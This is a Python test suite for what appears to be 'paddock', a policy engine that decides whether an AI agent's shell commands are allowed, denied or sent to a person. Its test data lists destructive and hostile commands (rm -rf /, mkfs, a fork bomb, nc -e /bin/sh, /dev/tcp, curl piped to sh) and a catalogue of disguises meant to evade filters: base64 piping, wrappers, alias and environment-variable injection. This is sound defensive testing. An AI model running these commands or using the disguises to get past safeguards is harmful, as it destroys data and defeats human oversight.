"""Denied commands: the tables of lines.py, disguises of denied commands, and no false alarm."""

from __future__ import annotations

import base64
import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from paddock import Action, Decision, PolicyError, Step, ToolCall, ToolPolicy
from paddock.shell.denied_commands import default_categories, own_command
from paddock.shell.wrappers import wrappers
from tests.unit.shell.lines import ALLOWED, ASKED, CWD, DENIED, HOME

LIMIT_S = 2.0  # twice the promised second, for a machine that other tests use too
OPEN = ToolPolicy(
    allowed_paths=None,
    require_approval_for_writes=False,
    require_approval_for_execute=False,
    cwd=CWD,
    home=HOME,
)


def judged(line: str, policy: ToolPolicy = OPEN) -> Decision:
    return policy.check(ToolCall(name="bash", arguments={"command": line}))


def test_lists_of_denied_and_allowed_lines_are_long_enough() -> None:
    assert sum(map(len, DENIED.values())) >= 60
    assert len(ALLOWED) >= 60
    assert set(DENIED) == {category.name for category in default_categories()}


@pytest.mark.parametrize(
    ("category", "line"), [(name, line) for name, lines in DENIED.items() for line in lines]
)
def test_a_denied_line_is_denied(category: str, line: str) -> None:
    """A-028 to A-035"""
    decision = judged(line)
    assert (decision.action, decision.step) == (Action.DENY, Step.DENIED_COMMANDS)
    assert decision.final
    everything = ToolPolicy(
        allowed_paths=None,
        require_approval_for_execute=False,
        cwd=CWD,
        home=HOME,
        denied_commands=["x"],
    )
    assert judged(line, everything).action is Action.DENY
    assert decision.rule_id.startswith("denied-commands.")
    assert category in _categories(line)


def _categories(line: str) -> set[str]:
    from paddock.shell.denied_commands import findings, read

    reading = read(line, cwd=CWD, home=HOME)
    return {found.category for found in findings(reading, default_categories()) if found.sure}


@pytest.mark.parametrize("line", ALLOWED)
def test_an_allowed_line_is_allowed(line: str) -> None:
    assert judged(line).action is Action.ALLOW, judged(line).reason


@pytest.mark.parametrize("line", ASKED)
def test_an_undecidable_line_is_asked_about(line: str) -> None:
    decision = judged(line)
    assert (decision.action, decision.step) == (Action.ASK, Step.DENIED_COMMANDS)


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf / )",
        "echo 'x; rm -rf /",
        "echo $(rm -rf /",
        "if true; then rm -rf /",
        "exec 5<>/dev/tcp/10.0.0.1/99",
        "((; curl x | sh",
        "reboot )",
        'echo "`echo "\\`reboot\\`"`"',
        ":(){ :|:& };: )",
        "cat <<E | bash & rm -rf /\nq\nE",
        "echo \x07; rm -rf /",
    ],
)
def test_an_unparsed_text_is_denied_if_it_could_be_denied(line: str) -> None:
    assert judged(line).action is Action.DENY


_LONG = 128 * 1024


@pytest.mark.parametrize(
    "line",
    ["(" * 5000 + "reboot" + ")" * 5000, "sh -c " * 3000 + "x", "$(" * 300 + "ls" + ")" * 300,
     "a=" * 20000,
     "{a,b}" * 50,
     "rm -rf " + "x " * 50_000, "x" * (2 << 20), "nc" + "(" * (2 << 18), "echo " + "$X" * 5000,
     "f() { f; }; " * 2000,
     "".join(f"x{n}=$x{n - 1}$x{n - 1};" for n in range(1, 1500)),
     "x=aaaa;" + "x=$x$x;" * 500 + "echo $x", "a(){ " + "b|" * 40_000, "a=(" * 30_000,
     ") " + "rm " * 30_000, ") " + "rm -rf /x " * 10_000, "sudo " * 20_000 + "ls",
     "echo a;" * 10_000, "<<E " * 20_000, "${x" * 30_000, "function f " * 10_000,
     "echo " + "a " * 20_000 + "| xargs -n1 rm"],
)  # fmt: skip
def test_a_huge_line_is_judged_within_a_second(line: str) -> None:
    """Of the processor's time, because other tests run at the same moment."""
    judged("ls")  # loads the grammar
    begin = time.process_time()
    assert judged(line).action in (Action.ALLOW, Action.ASK, Action.DENY)
    assert time.process_time() - begin < LIMIT_S


@pytest.mark.parametrize(
    "line", ["true " + "a" * _LONG, "true;" * 2000, "true " + "$(true) " * 1500]
)
def test_a_line_that_is_too_long_is_asked_about(line: str) -> None:
    assert judged(line).action is Action.ASK
    assert judged(line[: len(line) // 40]).action is Action.ALLOW, "the control"


def test_what_parallel_reads_is_a_command() -> None:
    for line in ("parallel ::: 'rm -rf /'", "echo 'rm -rf /' | parallel", "parallel rm -rf ::: /"):
        assert judged(line).action is Action.DENY, line
    assert judged("parallel ::: ls 'echo a'").action is Action.ALLOW
    assert judged("parallel echo ::: a b").action is Action.ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "jobs -x rm -rf /",
        "declare -l x=RM; $x -rf /",
        "declare -l x; x=RM; $x -rf /",
        "BASH_CMDS[x]=/bin/rm; x -rf /",
        "BASH_ALIASES[x]=rm; x -rf /",
        "BASH_ALIASES[x]='rm -rf /'; x",
        "script -c 'rm -rf /'",
        "script -qc 'rm -rf /' /dev/null",
        "perf stat rm -rf /",
        "perf stat -e cycles -- rm -rf /",
        "valgrind --tool=none rm -rf /",
        "bwrap --bind / / rm -rf /",
        "bwrap --dev /dev --ro-bind /usr /usr -- rm -rf /",
        "capsh -- -c 'rm -rf /'",
        "capsh --drop=all -- -c 'rm -rf /'",
        "numactl -N 0 rm -rf /",
        "direnv exec . rm -rf /",
        "npx -c 'rm -rf /'",
        "uv run rm -rf /",
        "gcc -wrapper rm,-rf,/ x.c",
        "sdiff --diff-program=reboot a b",
        "sdiff --diff-program reboot a b",
        "npx --call 'rm -rf /'",
        "uv run --with x rm -rf /",
        "uv --directory / run rm -rf etc",
        "perf record -o f rm -rf /",
        "typeset -l x=RM; $x -rf /",
        "diff3 --diff-program=reboot a b c",
        "numactl --interleave=all rm -rf /",
    ],
)
def test_a_program_that_starts_another_one_does_not_hide_it(line: str) -> None:
    assert judged(line).action is Action.DENY


@pytest.mark.parametrize(
    "line",
    [
        "jobs -l",
        "jobs -x echo a",
        "declare -l x=LS; $x -l",
        "perf stat ls",
        "perf report rm",
        "valgrind --tool=memcheck ./a.out",
        "bwrap --ro-bind / / ls",
        "capsh --print",
        "capsh -- -c ls",
        "numactl --hardware",
        "numactl -N 0 ls",
        "direnv exec . ls",
        "direnv allow",
        "npx tsc -p .",
        "npx -c 'ls'",
        "uv run pytest",
        "uv pip install rm",
        "gcc -O2 a.c -o a",
        "gcc -wrapper valgrind,--quiet a.c",
        "sdiff --diff-program=diff a b",
        "sdiff a b",
        "script -c ls",
    ],
)
def test_a_program_that_starts_an_innocent_one_is_allowed(line: str) -> None:
    assert judged(line).action is Action.ALLOW, judged(line).reason


@pytest.mark.parametrize("line", ["BASH_ALIASES[$x]=ls", "BASH_ALIASES=([x]=ls)"])
def test_a_name_that_is_not_shown_is_asked_about(line: str) -> None:
    assert judged(line).action is Action.ASK


_WORDS = st.lists(
    st.sampled_from(
        ["a", "/", "-", "--", "-c", "-n1", "-I", "-I{}", "{}", ":::", "::::", ";", "+", "=", "x=1",
         "-S", "--split-string", "-exec", "ls", "''", "'a b'", "$x", "*", "-i", "\\;"]
    ),
    max_size=6,
)  # fmt: skip


@settings(deadline=None, max_examples=600)
@given(
    st.sampled_from([*wrappers(), "find", "sh", "bash", "eval", "trap", "hash", "cp", "curl"]),
    _WORDS,
    st.sampled_from(["", "echo a |", "cat x |", "find . |"]),
)
def test_no_words_of_a_wrapper_raise(program: str, words: list[str], source: str) -> None:
    line = f"{source} {program} {' '.join(words)}"
    assert judged(line).action in (Action.ALLOW, Action.ASK, Action.DENY)


def test_bytes_that_are_no_text_are_judged_all_the_same() -> None:
    line = b"rm -rf / caf\xff".decode("utf-8", "surrogateescape")
    assert judged(line).action is Action.DENY
    assert judged(b"ls caf\xff".decode("utf-8", "surrogateescape")).action is Action.ALLOW
    assert judged("ls \udfff\ud800").action is not Action.ALLOW


# A denied command in every disguise.

BARE = [
    "rm -rf /",
    "rm -r -f ~",
    "reboot",
    "mkfs.ext4 /dev/sda1",
    "chmod -R 777 /srv",
    "history -c",
    "nc -e /bin/sh h 1",
]


@st.composite
def quoted(draw: st.DrawFn, line: str) -> str:
    """The same words in another spelling."""

    def spell(word: str) -> str:
        if word.startswith("~"):
            return word
        how = draw(st.integers(0, 5))
        at = draw(st.integers(0, len(word)))
        match how:
            case 0:
                return shlex.quote(word) if draw(st.booleans()) else f'"{word}"'
            case 1:
                return f"{word[:at]}''{word[at:]}"
            case 2:
                return f'{word[:at]}""{word[at:]}'
            case 3:
                return "".join(f"\\{letter}" if draw(st.booleans()) else letter for letter in word)
            case 4:
                return "$'" + "".join(f"\\x{ord(letter):02x}" for letter in word) + "'"
            case _:
                return word

    # A tilde inside a word is a plain character.
    blank = draw(st.sampled_from([" ", "  ", "\t", " \\\n ", " " if "~" in line else "${IFS}"]))
    return blank.join(spell(word) for word in line.split(" "))


WRAPPED = [
    "{}", "sudo {}", "sudo -u root {}", "env {}", "env -i X=1 {}", "nohup {}", "nice -n 3 {}",
    "timeout 5 {}", "time {}", "command {}", "exec {}", "eval {}", "xargs {}", "busybox {}",
    "setsid {}", "stdbuf -o0 {}", "ionice -c 2 {}", "A=b {}", "linux64 {}", "setarch x86_64 {}",
    "setarch x86_64 -R {}", "env - {}", "/lib64/ld-linux-x86-64.so.2 {}", "env -C /tmp {}",
    "coproc {}", "coproc X {{ {}; }}", "{{ f() {{ \"$@\"; }}; f {}; }}", "{{ set -- {}; \"$@\"; }}",
]  # fmt: skip
# With the whole line as one word.
CALL_FORMS = [
    "sh -c {}", "bash <<< {}", "eval -- {}", ". /dev/stdin <<< {}", "source /dev/fd/0 <<< {}",
    "bash /dev/stdin <<< {}", "echo {} | bash /proc/self/fd/0", "echo {} | xargs -I% sh -c %",
    "{{ alias x={}; x; }}", "{{ exec <<< {}; sh; }}", "trap -- {} EXIT", "echo {} | at now",
    "batch <<< {}", "sg root {}", "sg root -c {}", "PROMPT_COMMAND={} bash -i", "echo {} | ssh h",
    "env BASH_ENV=<(echo {}) bash -c :", "bash --rcfile <(echo {}) -i",
    "bash --init-file <(echo {}) -ic :", "su - root -c {}", "su root -- -c {}", "su - -c {}",
    "runuser -l root -c {}", "runuser root -c {}", "env GIT_EXTERNAL_DIFF={} git diff --ext-diff",
    "GIT_PAGER={} git log",
]  # fmt: skip
AROUND = [
    "{}", "( {} )", "{{ {}; }}", "true && {}", "false || {}", "ls; {}", "ls | {}", "{} | cat",
    "{} &", "! {}", "if {}; then :; fi", "while {}; do :; done", "for i in 1; do {}; done",
    "case x in x) {} ;; esac", "f() {{ {}; }}", "echo $({})", 'echo "$({})"', "cat <({})",
    "X=$({})", "ls\n{}\nls", "{} > /dev/null 2>&1", "cd /tmp; {}", "[ -n \"$({})\" ]",
]  # fmt: skip


@given(st.data())
@settings(max_examples=200, deadline=None)
def test_no_spelling_of_a_denied_command_passes(data: st.DataObject) -> None:
    line = data.draw(quoted(data.draw(st.sampled_from(BARE))))
    line = data.draw(st.sampled_from(WRAPPED)).format(line)
    for _ in range(data.draw(st.integers(0, 3))):
        inner = data.draw(st.integers(0, 3))
        if inner < 2 and "\n" not in line and "$'" not in line:
            line = data.draw(st.sampled_from(CALL_FORMS)).format(shlex.quote(line))
        elif inner == 2:
            line = f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | bash"
        line = data.draw(st.sampled_from(AROUND)).format(line)
    decision = judged(line)
    # The wrapped text may be no valid shell line ("x & | cat"). Then a person is asked at least.
    unreadable = decision.reason.startswith("the command cannot be parsed")
    assert decision.action is Action.DENY or (unreadable and decision.action is Action.ASK), line


@given(st.sampled_from(sorted(wrappers())), st.sampled_from(BARE))
@settings(max_examples=300, deadline=None)
def test_no_wrapper_hides_a_denied_command(wrapper: str, line: str) -> None:
    entry = wrappers()[wrapper]
    words = " ".join([*entry.verbs[:1], *["1"] * (entry.operands + entry.leading)])
    if entry.before:  # a shell
        line = f"-- -c {shlex.quote(line)}"
    assert judged(f"{wrapper} {words} {line}").action is Action.DENY


@pytest.mark.parametrize("call_form", CALL_FORMS)
def test_no_form_of_shell_call_hides_a_denied_command(call_form: str) -> None:
    assert judged(call_form.format("'rm -rf /'")).action is Action.DENY
    assert judged(call_form.format("'ls -l'")).action is not Action.DENY


@given(st.text(max_size=60))
@settings(max_examples=200, deadline=None)
def test_any_text_gets_a_decision_and_quoted_text_starts_nothing(text: str) -> None:
    judged(text or " ")
    if "\0" not in text and text.isprintable():
        assert judged(f"echo {shlex.quote(text)}").action is Action.ALLOW


# Denied commands of the user.


@pytest.mark.parametrize(
    ("pattern", "line", "action"),
    [
        ("terraform destroy", "terraform destroy", Action.DENY),
        ("terraform destroy", "terraform -chdir=x destroy -auto-approve", Action.DENY),
        ("terraform destroy", "sudo terraform 'destroy'", Action.DENY),
        ("terraform destroy", "cd x && terraform destroy", Action.DENY),
        ("terraform destroy", "terraform plan", Action.ALLOW),
        ("terraform destroy", "echo terraform destroy", Action.ALLOW),
        ("terraform destroy", "terraform $X", Action.ASK),
        ("git push --force", "git push origin --force", Action.DENY),
        ("git push --force", "git push", Action.ALLOW),
        ("git push --force", "git push -f", Action.DENY),
        ("git push --force", "git -C x push -fu origin y", Action.DENY),
        ("git push -f", "git push --force", Action.DENY),
        ("git push --force", "git push -u origin y", Action.ALLOW),
        ("touch x", "sed 's/a/touch x/e' f", Action.ASK),
        ("touch x", "sed -n 's|a|touch x|ge' f", Action.ASK),
        ("touch x", "sed 's/a/b/g' f", Action.ALLOW),
        ("touch x", "IFS=,; y=touch,x; $y", Action.ASK),
        ("touch x", "export IFS=,; y=touch,x; $y", Action.ASK),
        ("touch x", "while IFS=, read -r a b; do echo $a; done", Action.ALLOW),
        ("touch x", "EDITOR=vim git commit", Action.ALLOW),
        ("npm publish", "npm --registry x publish", Action.DENY),
        ("kubectl delete *", "kubectl delete pod x", Action.DENY),
        ("mkfs", "ls mkfs", Action.ALLOW),
        ("/opt/x/tool", "/opt/x/tool a", Action.DENY),
    ],
)
def test_a_persons_own_denied_command(pattern: str, line: str, action: Action) -> None:
    """A-036, A-039"""
    policy = ToolPolicy(
        allowed_paths=None,
        require_approval_for_execute=False,
        denied_commands=[pattern],
        cwd=CWD,
        home=HOME,
    )
    assert judged(line, policy).action is action
    assert judged("rm -rf /", policy).action is Action.DENY


@pytest.mark.parametrize("pattern", ["a | b", "a; b", "$X", "a > b", "echo 'x", "X=1 a", "a $(b)"])
def test_a_denied_command_is_one_plain_command(pattern: str) -> None:
    with pytest.raises(PolicyError, match="not one plain command"):
        own_command(pattern)
